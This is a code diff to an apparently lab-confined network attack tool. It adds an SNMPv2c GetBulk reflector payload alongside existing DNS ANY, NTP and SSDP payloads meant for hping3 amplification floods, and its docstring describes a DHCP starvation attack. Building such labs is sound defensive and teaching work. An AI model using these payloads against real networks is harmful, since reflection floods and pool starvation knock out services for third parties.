@@ -3,8 +3,9 @@
 
 Subcommands, each run inside a lab namespace by lab/lib/attacks.sh:
 
-- `payload dns|ntp|ssdp`: write a reflector request (DNS A query, NTP mode-3
-  client request, SSDP unicast M-SEARCH ssdp:all) to stdout, for hping3 -E.
+- `payload dns|ntp|ssdp|snmp`: write a reflector request (DNS ANY query, NTP
+  mode-3 client request, SSDP unicast M-SEARCH ssdp:all, SNMPv2c GetBulk for
+  community public) to stdout, for hping3 -E.
 - `dhcp-starve`: DHCP starvation (yersinia/DHCPig style): DISCOVER with a
   random client hardware address (chaddr), take the OFFER with a REQUEST,
   repeat until the pool is empty or the count is reached. Frames leave from
@@ -97,6 +98,14 @@ def cmd_payload(a) -> None:
         body = struct.pack("!HHHHHH", 0x1d2b, 0x0100, 1, 0, 0, 0) + dns_name(a.name) + struct.pack("!HH", 255, 1)
     elif a.kind == "ntp":
         body = bytes([0x23]) + bytes(39) + struct.pack("!II", int(time.time()) + 2208988800, 0)
+    elif a.kind == "snmp":
+        # SNMPv2c GetBulkRequest (RFC 3416), community "public",
+        # non-repeaters 0, max-repetitions 40, from mib-2 (1.3.6.1.2.1).
+        def t(tag, v):
+            return bytes([tag, len(v)]) + v
+        vb = t(0x30, t(0x06, bytes([0x2B, 6, 1, 2, 1])) + b"\x05\x00")
+        pdu = t(0xA5, t(0x02, b"\x1d") + t(0x02, b"\x00") + t(0x02, b"\x28") + t(0x30, vb))
+        body = t(0x30, t(0x02, b"\x01") + t(0x04, b"public") + pdu)
     else:
         body = ("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                 'MAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n').encode()
@@ -293,7 +302,7 @@ def main() -> None:
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     sub = p.add_subparsers(dest="cmd", required=True)
     s = sub.add_parser("payload")
-    s.add_argument("kind", choices=["dns", "ntp", "ssdp"])
+    s.add_argument("kind", choices=["dns", "ntp", "ssdp", "snmp"])
     s.add_argument("--name", default="home.lan")
     s = sub.add_parser("dhcp-starve")
     s.add_argument("--iface", default="eth0")
